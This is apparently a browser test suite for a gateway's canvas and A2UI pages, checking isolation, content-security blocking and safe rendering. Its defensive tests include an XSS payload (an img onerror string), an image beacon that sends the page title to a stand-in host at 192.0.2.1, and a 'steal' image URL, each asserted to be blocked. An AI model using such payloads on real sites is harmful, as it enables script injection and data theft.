# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The gatewayd developers
"""Canvas pages and the A2UI page in a real browser, on a real gateway."""
import pytest

import browser
from gateway import wait_for
from test_canvas import A2UI, CANVAS, House

browser.require()
pytestmark = pytest.mark.xdist_group("chromium")    # one browser at a time


@pytest.fixture(scope="module")
def chrome():
    b = browser.Browser()
    yield b
    b.close()


@pytest.fixture(scope="module")
def house():
    h = House()
    try:
        yield h.start()
    finally:
        h.gw.close()


@pytest.fixture
def doors(house):
    return (house.gw.port, house.port2)


def open_page(b, port, path):
    b.d.get("about:blank")
    b.logs()
    b.console.clear()
    b.d.get(f"http://127.0.0.1:{port}{path}")


def is_live(b):
    b.until(lambda: b.js("return document.documentElement.dataset.live") == "on",
            "the page waits for changes")


@pytest.mark.parametrize("door", [0, 1])
def test_live_reload(chrome, house, doors, door):
    """A page loads again when the agent has changed it."""
    text = "return document.querySelector('#what')?.textContent"
    house.put("index.html", "<body><p id=what>one</p></body>")
    open_page(chrome, doors[door], CANVAS)
    assert chrome.js(text) == "one"
    is_live(chrome)
    house.put("index.html", "<body><p id=what>two</p></body>")
    chrome.until(lambda: chrome.js(text) == "two", "the new page")
    is_live(chrome)
    house.put("index.html", "<body><p id=what>three</p></body>")
    chrome.until(lambda: chrome.js(text) == "three", "once more")


@pytest.mark.parametrize("door", [0, 1])
def test_T16_what_a_page_can_do(chrome, house, doors, door):
    """It draws itself with scripts and pictures of its folder; what others
    keep in the browser it reaches on neither port, other hosts neither."""
    house.put("pic.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='7' height='7'/>")
    house.put("own.css", "p { color: rgb(1, 2, 3) }")
    house.put("own.js", "window.own = 1")
    house.put("data.json", '{"x": 5}')
    house.put("index.html", """<link rel=stylesheet href=own.css><script src=own.js></script>
        <p style="margin: 3px">x</p><img id=pic src=pic.svg>
        <script>window.inline = 1; window.broken = [];
        addEventListener("securitypolicyviolation", (e) => broken.push(e.blockedURI));
        </script>""")
    open_page(chrome, house.gw.port, "/")
    chrome.js("sessionStorage.setItem('secret', 'x'); localStorage.setItem('secret', 'x')")
    # In the same tab, as a link in the chat would open it.
    chrome.d.get(f"http://127.0.0.1:{doors[door]}{CANVAS}")
    is_live(chrome)
    assert chrome.js("return [window.own, window.inline]") == [1, 1]
    assert chrome.js("return getComputedStyle(document.querySelector('p')).color") == "rgb(1, 2, 3)"
    chrome.until(lambda: chrome.js("return document.querySelector('#pic').naturalWidth") == 7,
                 "the picture")
    stored = chrome.js("try { return localStorage.getItem('secret'); } catch (e) { return e.name; }")
    fetched = chrome.d.execute_async_script(
        "const done = arguments[0]; fetch('data.json').then((r) => r.json()).then("
        "(v) => done(v.x), (e) => done(e.name));")
    if door == 0:
        assert chrome.js("return self.origin") == "null"
        assert (stored, fetched) == ("SecurityError", "TypeError")
    else:
        assert chrome.js("return self.origin") == f"http://127.0.0.1:{house.port2}"
        assert (stored, fetched) == (None, 5)
    # Of the gateway's own port neither can read a thing.
    assert chrome.d.execute_async_script(
        "const done = arguments[0]; fetch(arguments[1]).then(() => done('read'), "
        "(e) => done(e.name));".replace("arguments[0]", "arguments[arguments.length - 1]").replace(
            "arguments[1]", "arguments[0]"), f"http://127.0.0.1:{house.gw.port}/health") == "TypeError"
    chrome.js("const i = new Image(); i.src = 'http://192.0.2.1/x?' + document.title;"
              "document.body.append(i)")
    chrome.until(lambda: "http://192.0.2.1/x?" in chrome.js("return broken"), "it is stopped")


def test_page_until_there_is_one(chrome, house):
    p = house.folder / "index.html"
    if p.exists():
        p.unlink()
    open_page(chrome, house.gw.port, CANVAS)
    assert "no page here yet" in chrome.js("return document.body.innerText")
    is_live(chrome)
    # An action goes nowhere in a browser, and to the app where there is one.
    press = "document.querySelector('button[data-action=hello]').click();" \
        "return document.querySelector('#log').textContent"
    assert "Nobody takes actions" in chrome.js(press)
    chrome.js("window.got = []; window.openclawCanvasA2UIAction = "
              "{ postMessage(s) { got.push(JSON.parse(s)); } }")
    assert chrome.js(press) == "Sent: hello"
    action = chrome.js("return got[0].userAction")
    assert action["name"] == "hello" and action["id"] and action["surfaceId"] == "main"
    house.put("index.html", "<p id=new>new")
    chrome.until(lambda: chrome.js("return document.querySelector('#new') !== null"), "the page")


SURFACE = [
    {"surfaceUpdate": {"surfaceId": "main", "components": [
        {"id": "root", "component": {"Column": {"children": {"explicitList": [
            "title", "evil", "name", "list", "go", "pic", "nothing", "self"]}}}},
        {"id": "title", "component": {"Text": {"text": {"path": "/title"}, "usageHint": "h1"}}},
        {"id": "evil", "component": {"Text": {"text": {
            "literalString": "<img src=x onerror=window.pwned=1><b>bold</b>"}}}},
        {"id": "name", "component": {"TextField": {
            "label": {"literalString": "Name"}, "text": {"path": "/form/name"}}}},
        {"id": "list", "component": {"List": {"children": {"template": {
            "componentId": "row", "dataBinding": "/rows"}}}}},
        {"id": "row", "component": {"Text": {"text": {"path": "label"}}}},
        {"id": "go", "component": {"Button": {"child": "golabel", "primary": True, "action": {
            "name": "go", "context": [{"key": "who", "value": {"path": "/form/name"}},
                                      {"key": "n", "value": {"literalNumber": 3}}]}}}},
        {"id": "golabel", "component": {"Text": {"text": {"literalString": "Go"}}}},
        {"id": "pic", "component": {"Image": {"url": {
            "literalString": "http://192.0.2.1/steal?x=1"}}}},
        {"id": "self", "component": {"Card": {"child": "self"}}},
        {"id": "odd", "component": {"constructor": {}}}]}},
    {"dataModelUpdate": {"surfaceId": "main", "contents": [
        {"key": "title", "valueString": "Hello"},
        {"key": "form", "valueMap": [{"key": "name", "valueString": "Ada"}]},
        {"key": "rows", "valueMap": [
            {"key": "0", "valueMap": [{"key": "label", "valueString": "first"}]},
            {"key": "1", "valueMap": [{"key": "label", "valueString": "second"}]}]}]}},
    {"beginRendering": {"surfaceId": "main", "root": "root"}},
]


@pytest.mark.parametrize("door", [0, 1])
def test_a2ui(chrome, house, doors, door):
    open_page(chrome, doors[door], A2UI + "?platform=android")
    is_live(chrome)
    assert "Waiting for A2UI messages" in chrome.js("return document.body.innerText")
    chrome.js("window.got = []; window.openclawCanvasA2UIAction = "
              "{ postMessage(s) { got.push(JSON.parse(s)); } }")
    apply = "return openclawA2UI.applyMessages(arguments[0])"
    assert chrome.js(apply, SURFACE) == {"ok": True, "surfaces": ["main"]}
    assert chrome.js("return document.querySelector('h1').textContent") == "Hello"
    # What an agent writes is text.
    assert "<b>bold</b>" in chrome.js("return document.querySelector('[data-id=evil]').textContent")
    assert chrome.js("return [window.pwned, document.querySelectorAll('b').length]") == [None, 0]
    assert chrome.js("return document.querySelector('[data-id=pic]').getAttribute('src')") == ""
    assert chrome.js("return [...document.querySelectorAll('[data-id=row]')].map("
                     "(e) => e.textContent)") == ["first", "second"]
    field = chrome.one("[data-id=name] input")
    assert field.get_attribute("value") == "Ada"
    field.clear()
    field.send_keys("Grace")
    chrome.one("button.primary").click()
    action = chrome.js("return got[0].userAction")
    assert (action["name"], action["surfaceId"], action["sourceComponentId"]) == \
        ("go", "main", "go")
    assert action["context"] == {"who": "Grace", "n": 3}
    # A change keeps what somebody has entered, and where.
    chrome.one("[data-id=name] input").click()
    chrome.js(apply, [{"dataModelUpdate": {"surfaceId": "main", "contents": [
        {"key": "title", "valueString": "Again"}]}}])
    assert chrome.js("return document.querySelector('h1').textContent") == "Again"
    assert chrome.js("return document.activeElement.value") == "Grace"
    # What is none of version 0.8 is refused, and what was there stays.
    for bad in ([{"createSurface": {"surfaceId": "x"}}], [{}], "text", [None],
                [{"beginRendering": {}}],
                [{"deleteSurface": {"surfaceId": "a"}, "beginRendering": {"surfaceId": "a"}}]):
        assert chrome.js("try { openclawA2UI.applyMessages(arguments[0]); return null; } "
                         "catch (e) { return e.message; }", bad).startswith("A2UI: ")
    assert chrome.js("return openclawA2UI.getSurfaces()") == ["main"]
    chrome.js(apply, [{"deleteSurface": {"surfaceId": "main"}}])
    assert chrome.js("return [openclawA2UI.getSurfaces().length, "
                     "document.querySelectorAll('.surface').length]") == [0, 0]
    chrome.js(apply, SURFACE)
    assert chrome.js("return openclawA2UI.reset()") == {"ok": True}
    assert chrome.js("return document.querySelectorAll('.surface').length") == 0


def test_apps_are_told_what_becomes_of_an_action(chrome, house):
    open_page(chrome, house.gw.port, A2UI)
    is_live(chrome)
    chrome.js("window.openclawCanvasA2UIAction = { postMessage() {} };"
              "openclawA2UI.applyMessages(arguments[0])", SURFACE)
    chrome.one("button.primary").click()
    status = "return document.querySelector('#status').textContent"
    assert chrome.js(status) == "Sent: go"
    chrome.js("dispatchEvent(new CustomEvent('openclaw:a2ui-action-status', { detail: "
              "{ id: __openclawLastA2UIAction.id, ok: false, error: 'no agent' } }))")
    wait_for(lambda: chrome.js(status) == "Failed: no agent", what="the word")
